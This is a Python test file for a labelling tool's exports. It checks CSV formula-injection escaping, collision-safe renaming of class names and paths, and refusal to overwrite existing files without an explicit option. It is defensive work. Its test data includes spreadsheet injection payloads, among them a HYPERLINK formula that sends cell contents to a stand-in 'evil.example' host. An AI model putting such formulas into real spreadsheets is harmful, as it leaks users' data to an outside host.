"""Exports a hostile name cannot abuse: formula injection in CSVs (issue 15 item 5), colliding
names merged silently (item 8), and existing files replaced without being asked (item 18)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import tifffile

from bps_app.safe_text import md
from bps_cli.main import main
from bps_core.csvsafe import safe_cell, safe_frame, unsafe_cell
from bps_core.exports import ExportExistsError, export, export_to_output
from bps_core.project import Project, create_project_from_folder
from bps_core.storage import DatasourceConfig, LocalFolderSource
from bps_core.storage.copy import copy_objects
from tests.helpers import open_app

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)",
            "\tx", "\rx"]  # fmt: skip


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell__formula_text_gets_a_quote_and_round_trips(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert unsafe_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["track", "it's", "a=b", "", -1.5, 3, None])
def test_safe_cell__other_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_frame__numbers_stay_numbers() -> None:
    df = pd.DataFrame({"strategy": ["=cmd", "random"], "accuracy": [-1.5, 0.5]})
    out = safe_frame(df)
    assert out.strategy.tolist() == ["'=cmd", "random"]
    assert out.accuracy.tolist() == [-1.5, 0.5]
    text = out.to_csv(index=False)
    assert "-1.5" in text
    assert "'-1.5" not in text


def test_labels_csv__class_and_user_names_cannot_run_as_formulas(
    tiny_project: Project, tmp_path: Path
) -> None:
    keys = tiny_project.samples().key.head(2).tolist()
    tiny_project.add_labels(keys[:1], '=HYPERLINK("http://evil.example")', user="@boss",
                            source="api")  # fmt: skip
    tiny_project.add_labels(keys[1:], "-1", user="ann", source="api")
    export(tiny_project, "csv", tmp_path / "labels.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "labels.csv").read_text())))
    assert {r["label"] for r in rows} == {'\'=HYPERLINK("http://evil.example")', "'-1"}
    assert {r["user"] for r in rows} == {"'@boss", "ann"}
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())


def _folder_project(tmp_path: Path, relpaths: list[str]) -> Project:
    src = tmp_path / "src"
    for i, rel in enumerate(relpaths):
        (src / rel).parent.mkdir(parents=True, exist_ok=True)
        tifffile.imwrite(src / rel, np.full((8, 8), 100 * (i + 1), dtype=np.uint16))
    project, report = create_project_from_folder(tmp_path / "project", src, bps_channel=None)
    assert report.n_samples == len(relpaths)
    return project


def _legacy_class(project: Project, name: str) -> None:
    """A class written as a project from before the case rule holds it (no check)."""
    from bps_core.project import db
    from bps_core.project.store import utc_now

    db.write(project._conn, lambda c: c.execute(
        "INSERT INTO label_classes (name, color, hotkey, created_at) VALUES (?, ?, NULL, ?)",
        (name, "#888888", utc_now()),
    ))  # fmt: skip


def test_imagefolder__colliding_classes_and_paths_are_made_unique_and_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rels = ["a/b.tif", "a__b.tif", *(f"c{i}.tif" for i in range(1, 8))]
    project = _folder_project(tmp_path, rels)
    key = dict(zip(project.samples().relpath, project.samples().key, strict=True))
    classes = ["same", "same", "x/y", "x?y", "x_y", "Track", "track", "É", "é"]
    # Names apart only in case are refused since (ensure_class); a project made before holds
    # them, and its export must still keep them apart.
    project.ensure_class("Track")
    with pytest.raises(ValueError, match="only in upper and lower case"):
        project.ensure_class("TRACK")
    for name in ("track", "É", "é"):
        _legacy_class(project, name)
    for rel, label in zip(rels, classes, strict=True):
        project.add_labels([key[rel]], label, user="ann", source="api")
    dest = tmp_path / "out"
    report = export(project, "imagefolder", dest)
    files = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file())
    assert report.n_written == len(files) == len(rels)  # nothing merged
    folders = {f.split("/")[0] for f in files}
    assert len({f.casefold() for f in folders}) == len(set(classes)) == 8  # apart, case-folded
    assert len(report.renamed) == 2 + 1 + 1 + 1  # two of x/y x?y x_y, track, é, a__b.tif
    assert any("'x?y' -> 'x_y~" in r for r in report.renamed)
    for rel in rels:  # every image's bytes are in the export exactly once
        data = project.source().read_bytes(rel)
        assert sum((dest / f).read_bytes() == data for f in files) == 1
    project.close()
    assert main(["export", str(tmp_path / "project"), "--format", "imagefolder", "--dest",
                 str(tmp_path / "cli"), "--overwrite"]) == 0  # fmt: skip
    out = capsys.readouterr().out
    assert "5 names made unique because they would collide" in out
    assert "'x?y'" in out


def test_copy__keys_naming_one_file_in_a_folder_are_reported_not_merged(tmp_path: Path) -> None:
    src = tmp_path / "src"
    (src / "double").mkdir(parents=True)
    (src / "double" / "slash.tif").write_bytes(b"one")
    (src / "A.tif").write_bytes(b"upper")
    (src / "a.tif").write_bytes(b"lower")
    dest = tmp_path / "dest"
    keys = ["double//slash.tif", "double/slash.tif", "A.tif", "a.tif"]
    report = copy_objects(LocalFolderSource(src), LocalFolderSource(dest, create=True), keys)
    assert report.collisions == {"double/slash.tif": "double//slash.tif", "a.tif": "A.tif"}
    assert sorted(report.copied) == ["A.tif", "double//slash.tif"]
    assert "2 not copied because they name the same file as another key" in report.summary()
    assert report.as_dict()["n_collisions"] == 2
    assert (dest / "A.tif").read_bytes() == b"upper"
    assert not (dest / "a.tif").exists()


@pytest.mark.parametrize(
    ("fmt", "name"), [("csv", "labels.csv"), ("embeddings-csv", "emb.csv"),
                      ("label-studio", "ls")],
)  # fmt: skip
def test_single_file_exports__refuse_an_existing_file_without_overwrite(
    tiny_project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, name: str
) -> None:
    tiny_project.add_labels(tiny_project.samples().key.head(2), "track", user="ann", source="api")
    if fmt == "embeddings-csv":
        assert main(["embed", str(tiny_project.folder), "--method", "pixels",
                     "--image-size", "16"]) == 0  # fmt: skip
    dest = tmp_path / name
    existing = dest / "label_studio.json" if fmt == "label-studio" else dest
    existing.parent.mkdir(parents=True, exist_ok=True)
    existing.write_text("precious")
    args = ["export", str(tiny_project.folder), "--format", fmt, "--dest", str(dest)]
    capsys.readouterr()
    assert main(args) == 2
    err = capsys.readouterr().err
    assert f"{existing} already exists; pass --overwrite to replace it" in err
    assert existing.read_text() == "precious"
    assert main([*args, "--overwrite"]) == 0
    assert existing.read_text() != "precious"


def test_export_to_output__an_existing_csv_needs_overwrite(tiny_project: Project, tmp_path: Path
                                                           ) -> None:  # fmt: skip
    tiny_project.add_labels(tiny_project.samples().key.head(2), "track", user="ann", source="api")
    out = tmp_path / "out"
    tiny_project.set_datasources(
        output=DatasourceConfig(id="output", kind="local", path=str(out), purpose="output")
    )
    export_to_output(tiny_project, "csv")
    (out / "exports" / "labels.csv").write_text("edited by hand")
    with pytest.raises(ExportExistsError):
        export_to_output(tiny_project, "csv")
    assert (out / "exports" / "labels.csv").read_text() == "edited by hand"
    export_to_output(tiny_project, "csv", overwrite=True)
    assert "track" in (out / "exports" / "labels.csv").read_text()


def test_export_page__existing_output_file_needs_the_replace_checkbox(
    tiny_project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tiny_project.add_labels(tiny_project.samples().key.head(2), "track", user="ann", source="api")
    out = tmp_path / "out"
    tiny_project.set_datasources(
        output=DatasourceConfig(id="output", kind="local", path=str(out), purpose="output")
    )
    app = open_app(monkeypatch, tiny_project.folder)
    app.run()
    app.switch_page("pages/6_Export.py").run()
    app.selectbox(key="export_out_format").set_value("csv")
    go = lambda: next(b for b in app.button if b.label == "Export to the output")  # noqa: E731
    go().click().run()
    assert f"to {md(out.as_uri() + '/exports/')}" in app.success[-1].value  # one slash
    (out / "exports" / "labels.csv").write_text("edited by hand")
    go().click().run()
    assert "already exists: tick 'Replace files that exist'" in app.error[-1].value
    assert (out / "exports" / "labels.csv").read_text() == "edited by hand"
    app.checkbox(key="export_out_ow").check()
    go().click().run()
    assert not app.exception
    assert "track" in (out / "exports" / "labels.csv").read_text()


def test_labels_csv__a_neutralised_export_imports_back_unchanged(
    tiny_project: Project, tmp_path: Path
) -> None:
    from bps_core.labels import import_labels_csv

    keys = tiny_project.samples().key.head(2).tolist()
    tiny_project.add_labels(keys, "=SUM(A1)", user="ann", source="api")
    export(tiny_project, "csv", tmp_path / "labels.csv")
    tiny_project.add_labels(keys, "other", user="ann", source="api")
    report = import_labels_csv(tiny_project, (tmp_path / "labels.csv").read_bytes(), "labels.csv",
                               user="bob")  # fmt: skip
    assert report.n_labeled == 2
    assert set(tiny_project.current_labels().label) == {"=SUM(A1)"}
